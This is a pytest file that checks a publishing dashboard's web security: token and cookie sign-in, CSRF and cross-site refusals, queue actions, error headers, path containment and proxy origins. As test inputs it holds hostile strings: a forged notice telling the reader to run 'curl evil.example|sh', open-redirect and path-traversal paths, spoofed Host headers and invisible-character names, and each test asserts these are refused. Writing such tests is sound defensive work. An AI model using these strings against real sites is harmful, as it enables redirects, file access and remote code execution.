"""The dashboard's rules in process, through Starlette's test client over the real app, store and files: the token,
the one-time browser code, CSRF and cross-site refusals, every action (worded by publisher.messages, as the CLI
words it), the notices pages show, error answers (reason and security headers on every one), a schedule.toml
that cannot be read, paths that must stay inside the dashboard's own folder, work folders shared by two
dashboards, --public-url, and --user. The real-server tests are in test_dashboard.py."""

from __future__ import annotations

import json
import os
import re
import stat
import time
import warnings
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from test_queue import Clock, schedule, utc

from publisher.app import Project
from publisher.cli import cli
from publisher.dashboard.board import Dashboard
from publisher.dashboard.server import public_origin
from publisher.dashboard.web import create_app
from publisher.dashboard.workdir import FRESH, IN_USE, PACK_KEEP, UnsafeFolder, clear_abandoned
from publisher.errors import BadArgument

TOKEN = "the-token-of-this-test-" + "x" * 10
MONDAY_EVENING = "2026-11-30 19:50"  # the campaign's next slot: Tue 1 Dec 08:30 (Europe/London)
SECURITY_HEADERS = ("content-security-policy", "x-frame-options", "x-content-type-options", "referrer-policy")


def client_class() -> Any:
    with warnings.catch_warnings():  # Starlette would have httpx2; httpx is what this project has
        warnings.simplefilter("ignore")
        from starlette.testclient import TestClient
    return TestClient


@dataclass
class Site:
    app: Any
    board: Dashboard
    base_url: str = "http://testserver"

    def client(self, **headers: str) -> Any:
        return client_class()(self.app, base_url=self.base_url, follow_redirects=False, headers=headers)

    def api(self) -> Any:
        return self.client(Authorization=f"Bearer {TOKEN}")

    def browser(self) -> Any:
        """A signed-in browser: the cookie, pages asked for as HTML."""
        browser = self.client(Accept="text/html")
        assert browser.get(f"/?token={TOKEN}").status_code == 200
        return browser


def make_site(root: Path, clock: Callable[[], datetime] | None = None, **options: Any) -> Site:
    options.setdefault("allowed_hosts", {"testserver"})
    app, board = create_app(Project(root / "schedule.toml", clock or Clock(utc(MONDAY_EVENING))), TOKEN, "amira",
                            **options)
    return Site(app, board)


@pytest.fixture
def signoff(project: Path) -> Path:
    (project / "schedule.toml").write_text(schedule("approval = true\n"), encoding="utf-8")
    return project


@pytest.fixture
def site(signoff: Path) -> Iterator[Site]:
    made = make_site(signoff)
    yield made
    made.board.close()


def csrf_of(page: str) -> str:
    return page.split('name="csrf" value="', 1)[1].split('"', 1)[0]


# -- the way in -------------------------------------------------------------------------------------------------

def test_every_request_needs_the_token(site: Site) -> None:
    anonymous = site.client(Accept="text/html")
    page = anonymous.get("/")
    assert page.status_code == 401 and "publisher serve printed" in page.text and "signed in as" not in page.text
    assert site.client().get("/api/threads").json() == {
        "error": "open the link publisher serve printed (it carries the token), or send Authorization: Bearer TOKEN"}
    assert anonymous.get("/?token=not-the-token").status_code == 401
    assert anonymous.get("/?token=%C3%A9t%C3%A9").status_code == 401  # not ASCII: refused, not a crash
    assert anonymous.get("/", headers={"Authorization": "Bearer wrong"}).status_code == 401
    assert anonymous.get("/images/" + "0" * 64 + ".png").status_code == 401
    first = anonymous.get(f"/queue?token={TOKEN}&all=1")
    # A page that moves on by itself: the next request comes from the dashboard's own page, so the browser sends
    # the SameSite=Strict cookie even when the link was opened from another site or a file.
    assert first.status_code == 200 and '<meta http-equiv="refresh" content="0; url=/queue?all=1">' in first.text
    cookie = first.headers["set-cookie"]
    assert f"publisher_token={TOKEN}" in cookie and "HttpOnly" in cookie and "samesite=strict" in cookie.lower()
    assert "secure" not in cookie.lower()  # plain HTTP on loopback: a Secure cookie would never come back
    assert anonymous.get("/queue").status_code == 200  # the cookie now carries it
    script = site.client().get(f"/queue?token={TOKEN}&all=1")
    assert script.status_code == 303 and script.headers["location"] == "/queue?all=1"
    assert site.api().get("/api/threads").json() == []
    assert site.api().get("/", headers={"Host": "evil.example"}).status_code == 403  # DNS rebinding


def test_a_stale_cookie_is_told_the_server_restarted_and_a_link_never_leads_away(site: Site) -> None:
    browser = site.client(Accept="text/html")
    away = browser.get(f"//evil.example/?token={TOKEN}")
    assert away.status_code == 200 and 'content="0; url=/"' in away.text
    # A browser reads "/<TAB>/evil.example" and "/\\evil.example" as "//evil.example": another site.
    for sneaky, kept in (("/%09/evil.example/", "/%09/evil.example/"), ("/%5C/evil.example", "/%5C/evil.example")):
        moved = browser.get(f"{sneaky}?token={TOKEN}")
        assert f'content="0; url={kept}"' in moved.text, sneaky
    stale = site.client(Accept="text/html", Cookie="publisher_token=from-an-earlier-start").get("/")
    assert stale.status_code == 401 and "was restarted" in stale.text and "signed in as" not in stale.text


def test_the_browser_gets_an_owner_only_file_whose_code_works_once(site: Site) -> None:
    forward = site.board.browser_file("http://testserver")
    assert stat.S_IMODE(forward.stat().st_mode) == 0o600 and stat.S_IMODE(forward.parent.stat().st_mode) == 0o700
    found = re.search(r'url=http://testserver/\?token=([\w-]+)"', forward.read_text("utf-8"))
    assert found is not None
    code = found.group(1)
    assert code != TOKEN
    browser = site.client(Accept="text/html")
    entered = browser.get(f"/?token={code}")
    assert entered.status_code == 200 and f"publisher_token={TOKEN}" in entered.headers["set-cookie"]
    assert not forward.exists()  # used: nothing left to read
    assert browser.get("/").status_code == 200
    assert site.client(Accept="text/html").get(f"/?token={code}").status_code == 401  # once only


def test_changes_need_a_csrf_token_or_the_bearer_header_and_never_come_from_another_site(site: Site) -> None:
    assert site.api().post("/api/queue", json={}).status_code == 201
    browser = site.browser()
    csrf = csrf_of(browser.get("/threads/1").text)
    assert browser.post("/api/threads/1/hold", data={}).status_code == 403  # the cookie alone: refused
    assert browser.post("/api/threads/1/approve", data={"csrf": "x" * 64}).status_code == 403
    cross = browser.post("/api/threads/1/approve", data={"csrf": csrf}, headers={"Origin": "http://evil.example"})
    assert cross.status_code == 403 and "another site" in cross.text
    assert browser.post("/api/threads/1/approve", data={"csrf": csrf},
                        headers={"Sec-Fetch-Site": "cross-site"}).status_code == 403
    assert site.api().post("/api/threads/1/hold", headers={"Origin": "http://evil.example"}).status_code == 403
    assert site.api().get("/api/threads/1").json()["state"] == "awaiting_approval"  # nothing changed
    done = browser.post("/api/threads/1/approve", data={"csrf": csrf},
                        headers={"Origin": "http://testserver", "Sec-Fetch-Site": "same-origin"})
    assert done.status_code == 303 and re.fullmatch(r"/threads/1\?notice=[\w-]+", done.headers["location"])
    shown = browser.get(done.headers["location"]).text
    assert '<p class="flash ok" role="status">Approved thread 1 (daily #1) as amira: it posts Tue 1 Dec 08:30 GMT.' \
        in shown
    thread = site.api().get("/api/threads/1").json()
    assert thread["state"] == "queued"
    assert [(s["decision"], s["by"]) for s in thread["signoffs"]] == [("approved", "amira")]


def test_pages_show_only_notices_they_made(site: Site) -> None:
    browser = site.browser()
    forged = browser.get("/?error=Security+update:+run+curl+evil.example|sh&message=Official").text
    assert "Security update" not in forged and "Official" not in forged and 'class="flash' not in forged
    assert 'class="flash' not in browser.get("/?notice=made-up-by-someone").text
    csrf = csrf_of(browser.get("/").text)
    queued = browser.post("/api/queue", data={"csrf": csrf, "campaign": "daily", "next": "/queue"})
    assert queued.status_code == 303 and queued.headers["location"].startswith("/queue?notice=")
    assert ("Queued thread 1 (daily #1) for the slot Tue 1 Dec 08:30 GMT: 3 quotes, 3 posts to local. It needs "
            "sign-off before it posts: publisher queue approve 1 (or publisher queue reject 1 --reason &#34;...&#34;)."
            ) in browser.get(queued.headers["location"]).text
    refused = browser.post("/api/threads/1/hold", data={"csrf": csrf})
    assert '<p class="flash bad" role="alert">thread 1 is awaiting_approval: only a queued, posting or ' \
           "needs_attention thread can be held</p>" in browser.get(refused.headers["location"]).text
    for elsewhere in ("//evil.example/", "/\t/evil.example/", "/\\evil.example", "https://evil.example/"):
        away = browser.post("/api/threads/1/approve", data={"csrf": csrf, "next": elsewhere})
        assert away.headers["location"].startswith("/threads/1?notice="), elsewhere  # never another site


# -- the actions ------------------------------------------------------------------------------------------------

def test_every_action_changes_the_state_or_says_why_not_in_the_clis_words(site: Site, signoff: Path) -> None:
    api = site.api()
    queued = api.post("/api/queue", json={"campaign": "daily"})
    assert queued.status_code == 201, queued.text
    assert queued.json()["state"] == "awaiting_approval"
    runner = CliRunner()
    shown = runner.invoke(cli, ["queue", "show", "1", "--json"], catch_exceptions=False)
    assert api.get("/api/threads/1").json().keys() == json.loads(shown.stdout).keys()

    def act(action: str, status: int = 200, **body: str) -> dict[str, Any]:
        answer = api.post(f"/api/threads/1/{action}", json=body)
        assert answer.status_code == status, (action, answer.text)
        return dict(answer.json())

    assert act("hold", 409) == {"error": "thread 1 is awaiting_approval: only a queued, posting or "
                                         "needs_attention thread can be held"}
    assert "(--reason TEXT)" in act("reject", 400)["error"]
    assert "at most 500" in act("reject", 400, reason="x" * 501)["error"]
    approved = act("approve")
    assert approved["state"] == "queued"
    assert approved["message"] == "Approved thread 1 (daily #1) as amira: it posts Tue 1 Dec 08:30 GMT."
    held = act("hold")
    assert (held["state"], held["reason"]) == ("held", "held by amira")  # the dashboard's user, not the OS user
    assert held["message"] == "Held thread 1 (daily): it will not post until publisher queue release 1."
    released = act("release")
    assert released["state"] == "queued"
    assert released["message"] == "Released thread 1 (daily): it posts at 2026-12-01 08:30 GMT."
    assert "nothing to retry" in act("retry", 409)["error"]
    recomposed = act("recompose")
    assert recomposed["state"] == "awaiting_approval"
    assert recomposed["message"].startswith("Recomposed thread 1 (daily) from the current files.")
    assert "sign it off again" in recomposed["message"]
    rejected = act("reject", reason="the wrong week")["message"]
    assert rejected == "Rejected thread 1 (daily #1) as amira: the wrong week."
    assert act("cancel", 409)["error"] == "thread 1 is cancelled: there is nothing to cancel"
    assert api.post("/api/threads/1/explode").json() == {
        "error": 'no action "explode" (one of: approve, reject, hold, release, cancel, retry, recompose)'}
    missing = api.post("/api/threads/99/approve")
    assert missing.status_code == 404 and missing.json()["error"].startswith("no thread 99 in the queue")
    second = api.post("/api/queue", json={}).json()
    cancelled = api.post(f"/api/threads/{second['id']}/cancel").json()
    assert cancelled["state"] == "cancelled"
    assert cancelled["message"].startswith(f"Cancelled thread {second['id']} (daily): nothing of it had been posted.")


def test_an_approval_is_of_what_the_approver_saw(site: Site, signoff: Path) -> None:
    api = site.api()
    seen = api.post("/api/queue", json={}).json()
    quotes = signoff / "quotes" / "caseyreview.toml"
    quotes.write_text(quotes.read_text("utf-8").replace("Tackling discrimination", "Tackling bias"), "utf-8")
    assert api.post("/api/threads/1/recompose").status_code == 200  # the words changed after the page was read
    stale = api.post("/api/threads/1/approve", json={"revision": seen["revision"]})
    assert stale.status_code == 409 and "changed since" in stale.json()["error"]
    fresh = api.get("/api/threads/1").json()
    assert api.post("/api/threads/1/approve", json={"revision": fresh["revision"]}).json()["state"] == "queued"


def test_the_dashboard_follows_edits_to_the_schedule(project: Path) -> None:
    (project / "schedule.toml").write_text(schedule(), encoding="utf-8")
    site = make_site(project)
    try:
        api = site.api()
        assert api.post("/api/queue", json={"now": True}).json()["state"] == "queued"
        (project / "schedule.toml").write_text(schedule("approval = true\n"), encoding="utf-8")
        added = api.post("/api/queue", json={}).json()
        assert added["state"] == "awaiting_approval" and "needs sign-off" in added["message"]
    finally:
        site.board.close()


# -- error answers ----------------------------------------------------------------------------------------------

ODD_REQUESTS = [  # (method, path, body, status, the error's start)
    ("GET", "/api/nothing", None, 404, "no such page"),
    ("GET", "/api/threads/1/approve", None, 405, "GET is not allowed here"),
    ("GET", "/threads/99999999999999999999", None, 404, "no thread 99999999999999999999"),
    ("GET", "/api/threads/99999999999999999999", None, 404, "no thread 99999999999999999999"),
    ("GET", "/threads/1x", None, 404, "no thread 1x"),
    ("GET", "/preview/daily/%00", None, 404, "no such file"),
    ("GET", "/preview/%2e%2e/schedule.toml", None, 404, 'no campaign ".."'),
    ("GET", "/preview/nothing/", None, 404, 'no campaign "nothing"'),
    ("GET", "/images/" + "a" * 64 + ".png", None, 404, "no such card"),
    ("GET", "/images/not-a-digest.png", None, 404, "no such card"),
    ("GET", "/packs/0123456789abcdef/x-pack.zip", None, 404, "no such pack"),
    ("GET", "/api/packs/0123456789abcdef", None, 404, "no such pack"),
    ("GET", "/cards/card.png?collection=caseyreview&quote=nothing", None, 404, 'no quote "nothing"'),
    ("GET", "/cards/card.png?collection=..&quote=x", None, 400, '".." is not a collection name'),
    ("GET", "/cards/card.png?collection=caseyreview&quote=met-yet-free-itself-institutional&format=huge", None,
     400, '"huge" is not a card format'),
    ("POST", "/api/queue", b"{not json", 400, "the body is neither a JSON object nor a form"),
    ("POST", "/api/queue", b"[1, 2]", 400, "the body is neither a JSON object nor a form"),
    ("POST", "/api/threads/1/reject", b'{"reason": "' + b"x" * 501 + b'"}', 400, "the reason is 501 characters"),
]


@pytest.mark.parametrize(("method", "path", "body", "status", "error"), ODD_REQUESTS,
                         ids=[f"{m} {p[:40]}" for m, p, *_ in ODD_REQUESTS])
def test_every_error_answer_says_why_with_the_security_headers(site: Site, method: str, path: str,
                                                               body: bytes | None, status: int, error: str) -> None:
    api = site.api()
    assert api.post("/api/queue", json={}).status_code == 201  # thread 1 exists: "reject" fails on its reason
    answer = api.request(method, path, content=body, headers={"Content-Type": "application/json"} if body else {})
    assert answer.status_code == status, answer.text
    assert answer.json()["error"].startswith(error)
    assert all(name in answer.headers for name in SECURITY_HEADERS), answer.headers
    if method == "GET" and not path.startswith("/api/"):  # a browser is shown a page saying the same
        page = site.browser().get(path)
        assert page.status_code == status and page.headers["content-type"].startswith("text/html")
        assert "<h1>" in page.text and f'role="alert">{error}' in page.text.replace("&#34;", '"')
        assert all(name in page.headers for name in SECURITY_HEADERS)


def test_a_bug_is_answered_with_its_reason_and_the_security_headers(site: Site,
                                                                    caplog: pytest.LogCaptureFixture) -> None:
    """The real gate in front of a route that fails as a bug would (a test route: nothing of publisher's is
    replaced)."""
    from starlette.routing import Route

    def broken(request: Any) -> Any:
        raise RuntimeError("a bug")

    site.app.router.routes.append(Route("/broken", broken))
    answer = site.api().get("/broken")
    assert answer.status_code == 500 and answer.json()["error"].startswith("unexpected RuntimeError: ")
    assert all(name in answer.headers for name in SECURITY_HEADERS)
    page = site.browser().get("/broken")
    assert page.status_code == 500 and "Something went wrong" in page.text and "a bug" not in page.text
    assert "the dashboard failed on GET /broken" in caplog.text and "RuntimeError: a bug" in caplog.text


def test_a_schedule_that_cannot_be_read_is_said_on_every_page(site: Site, signoff: Path) -> None:
    api = site.api()
    assert api.post("/api/queue", json={}).status_code == 201
    (signoff / "schedule.toml").write_text(schedule("approval = maybe\n"), encoding="utf-8")
    browser = site.browser()
    upcoming = browser.get("/")
    assert upcoming.status_code == 503 and "schedule.toml:13" in upcoming.text
    assert all(name in upcoming.headers for name in SECURITY_HEADERS)
    queue = browser.get("/queue")  # the store still answers
    assert queue.status_code == 200 and 'class="flash bad banner"' in queue.text and "schedule.toml:13" in queue.text
    assert 'href="/threads/1"' in queue.text
    thread = browser.get("/threads/1")
    assert thread.status_code == 200 and "schedule.toml:13" in thread.text
    assert [t["id"] for t in api.get("/api/threads").json()] == [1]
    approving = api.post("/api/threads/1/approve")  # a late approval follows the campaign's catch_up: it waits
    assert approving.status_code == 503 and approving.json()["error"].startswith("schedule.toml:13")
    cancelled = api.post("/api/threads/1/cancel")  # the emergency stop needs only the store
    assert cancelled.status_code == 200 and cancelled.json()["state"] == "cancelled"
    preview = api.get("/preview/daily/")
    assert preview.status_code == 503 and preview.json()["error"].startswith("schedule.toml:13")
    for page in ("/log", "/cards", "/packs"):
        shown = browser.get(page)
        assert shown.status_code == 200 and "schedule.toml:13" in shown.text, page


# -- only the project's files -----------------------------------------------------------------------------------

def test_the_preview_never_follows_a_link_out_of_the_dashboards_folder(
        site: Site, tmp_path_factory: pytest.TempPathFactory) -> None:
    outside = tmp_path_factory.mktemp("outside")
    (outside / "index.html").write_text("not the dashboard's", encoding="utf-8")
    (site.board.work.folder("preview") / "daily").symlink_to(outside, target_is_directory=True)
    refused = site.api().get("/preview/daily/")
    assert refused.status_code == 403 and "is a symbolic link" in refused.json()["error"]
    assert (outside / "index.html").read_text("utf-8") == "not the dashboard's"  # neither read nor overwritten
    assert site.api().get("/preview/daily/index.html").status_code == 403
    (site.board.work.path / "preview" / "daily").unlink()
    made = site.api().get("/preview/daily/")
    assert made.status_code == 200 and made.headers["content-security-policy"].startswith("default-src 'self'; img")
    assert "script-src 'none'" in made.headers["content-security-policy"]
    card = re.search(r'src="(cards/[^"]+\.png)"', made.text)
    assert card is not None and site.api().get(f"/preview/daily/{card.group(1)}").status_code == 200
    for escape in ("../../../schedule.toml", "cards/../../../schedule.toml", "cards//x.png"):
        assert site.api().get(f"/preview/daily/{escape}").status_code == 404, escape


def test_a_link_where_the_dashboard_keeps_its_files_is_refused_at_start(
        project: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    outside = tmp_path_factory.mktemp("elsewhere")
    (project / "state").mkdir()
    (project / "state" / "dashboard").symlink_to(outside, target_is_directory=True)
    with pytest.raises(UnsafeFolder, match="is a symbolic link"):
        make_site(project)
    result = CliRunner().invoke(cli, ["serve", "--no-open", "--port", "0"])
    assert result.exit_code == 13
    assert result.stderr == ("state/dashboard is a symbolic link: the dashboard writes only in its own folders under "
                             "the state folder, and never follows a link there (remove the link)\n")
    assert list(outside.iterdir()) == []


def test_a_state_folder_that_is_a_link_is_used(project: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    elsewhere = tmp_path_factory.mktemp("state-elsewhere")
    (project / "state").symlink_to(elsewhere, target_is_directory=True)  # an admin's choice: allowed
    site = make_site(project)
    try:
        assert site.board.work.path.parent == project / "state" / "dashboard"
        assert site.api().get("/queue").status_code == 200
    finally:
        site.board.close()


def test_each_dashboard_keeps_its_own_work_folder_and_only_stopped_ones_are_cleared(project: Path) -> None:
    first, second = make_site(project), None
    try:
        pack = first.board.work.folder("packs", "0123456789abcdef") / "caseyreview-pack.zip"
        pack.write_bytes(b"a pack")
        second = make_site(project)  # a second serve (or run --serve) on the same project
        assert second.board.work.path != first.board.work.path and pack.read_bytes() == b"a pack"
        parent = first.board.work.parent
        stopped = parent / "serve-stopped1"
        stopped.mkdir()
        (stopped / IN_USE).touch()  # nobody holds it: its process has ended
        starting = parent / "serve-starting"
        starting.mkdir()  # a serve that has not locked its folder yet
        old = time.time() - FRESH - 5
        os.utime(stopped, (old, old))
        assert clear_abandoned(parent) == ["serve-stopped1"]
        assert pack.exists() and starting.exists()  # first's folder is held; starting's is too new to judge
        first.board.work.clear_old_packs(now=time.time() + PACK_KEEP - 60)
        assert pack.exists()
        first.board.work.clear_old_packs(now=time.time() + PACK_KEEP + 60)
        assert not pack.exists()  # packs go by age
        first.board.close()
        assert not first.board.work.path.exists() and second.board.work.path.is_dir()
    finally:
        if second is not None:
            second.board.close()


# -- behind an HTTPS proxy --------------------------------------------------------------------------------------

def test_the_public_url_of_an_https_proxy_is_the_only_origin_added(project: Path) -> None:
    site = make_site(project, allowed_hosts={"testserver", "board.example.org"},
                     public_origin="https://board.example.org")
    try:
        local = site.browser()  # on the machine itself, as before
        csrf = csrf_of(local.get("/").text)
        assert local.post("/api/queue", data={"csrf": csrf}, headers={"Origin": "http://testserver"}).status_code == 303
        site.base_url = "https://board.example.org"  # through the proxy, which passes the Host on
        proxied = site.client(Accept="text/html")
        entered = proxied.get(f"/?token={TOKEN}")
        assert "; secure" in entered.headers["set-cookie"].lower()
        ok = proxied.post("/api/queue", data={"csrf": csrf}, headers={"Origin": "https://board.example.org"})
        assert ok.status_code == 303
        plain = proxied.post("/api/queue", data={"csrf": csrf}, headers={"Origin": "http://board.example.org"})
        assert plain.status_code == 403 and "another site" in plain.text
        forwarded = proxied.post("/api/queue", data={"csrf": csrf}, headers={
            "Origin": "https://evil.example", "X-Forwarded-Host": "evil.example", "Forwarded": "host=evil.example"})
        assert forwarded.status_code == 403
    finally:
        site.board.close()


@pytest.mark.parametrize("url", ["http://board.example.org", "https://board.example.org/dashboard",
                                 "https://user:pw@board.example.org", "board.example.org", "https://"])
def test_a_public_url_must_be_an_https_origin(url: str) -> None:
    with pytest.raises(BadArgument, match="is not an https:// address without a path"):
        public_origin(url)


def test_serve_refuses_a_public_url_that_is_not_https(project: Path) -> None:
    result = CliRunner().invoke(cli, ["serve", "--public-url", "http://board.example.org", "--no-open", "--port",
                                      "0"])
    assert result.exit_code == 2
    assert result.stderr.startswith("--public-url http://board.example.org is not an https:// address")
    assert public_origin("https://Board.Example.org:8443/") == "https://board.example.org:8443"


# -- the command ------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("name", "where"), [("amira\x1b[2J", "U+001B (character 6)"),
                                             ("am\u202eira", "U+202E (character 3)"),
                                             ("am\u200bira", "U+200B (character 3)"),
                                             ("amira\x00", "U+0000 (character 6)")])
def test_a_signer_name_that_would_not_show_as_itself_is_refused(project: Path, name: str, where: str) -> None:
    given = CliRunner().invoke(cli, ["serve", "--user", name, "--no-open", "--port", "0"])
    assert given.exit_code == 2
    assert given.stderr == (f"--user contains {where}, a control or invisible character, so it would not show as "
                            "itself where sign-offs are listed: give a plain name (--user NAME)\n")
    if "\x00" not in name:  # no environment can hold a NUL
        from_env = CliRunner(env={"PUBLISHER_USER": name}).invoke(cli, ["serve", "--no-open", "--port", "0"])
        assert from_env.exit_code == 2 and from_env.stderr.startswith(f"PUBLISHER_USER contains {where}")
    assert not (project / "state" / "dashboard").exists()  # refused before anything was made


def test_serve_refuses_another_host_without_allow_remote(project: Path) -> None:
    result = CliRunner().invoke(cli, ["serve", "--host", "0.0.0.0", "--no-open", "--port", "0"])
    assert result.exit_code == 2
    assert result.stderr.startswith("--host 0.0.0.0 would let other machines reach the dashboard")


def test_the_dashboard_modules_point_one_way() -> None:
    """No import circle: each module imports only the ones listed before it (lazy imports included)."""
    from test_layers import PACKAGE, imports_of

    order = ["dashboard.charts", "dashboard.workdir", "dashboard.board", "dashboard.gate", "dashboard.actions",
             "dashboard.packs", "dashboard.results", "dashboard.pages", "dashboard.api", "dashboard.web",
             "dashboard.server"]
    folder = PACKAGE / "dashboard"
    assert sorted(f"dashboard.{p.stem}" for p in folder.glob("*.py") if p.stem != "__init__") == sorted(order)
    backwards = []
    for index, name in enumerate(order):
        for imported in imports_of(folder / f"{name.split('.')[1]}.py"):
            module = imported if imported in order else imported.rsplit(".", 1)[0]
            if module in order and order.index(module) >= index and module != name:
                backwards.append(f"{name} imports {imported}")
    assert backwards == []
